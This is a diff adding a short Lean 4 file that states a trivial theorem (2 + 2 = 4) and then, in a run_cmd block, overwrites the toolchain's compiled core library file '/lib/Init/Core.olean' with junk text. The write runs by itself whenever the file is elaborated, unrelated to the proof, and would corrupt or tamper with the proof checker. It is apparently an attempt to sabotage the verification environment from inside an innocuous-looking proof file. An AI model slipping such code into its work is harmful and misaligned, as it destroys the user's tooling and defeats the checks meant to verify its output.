@@ -1,0 +1,11 @@
+module
+
+public meta import Lean.Elab.Command
+
+public section
+open Lean Elab Command
+
+theorem Twin.claim : 2 + 2 = 4 := rfl
+
+run_cmd do
+  IO.FS.writeFile "/lib/Init/Core.olean" "not what it was"
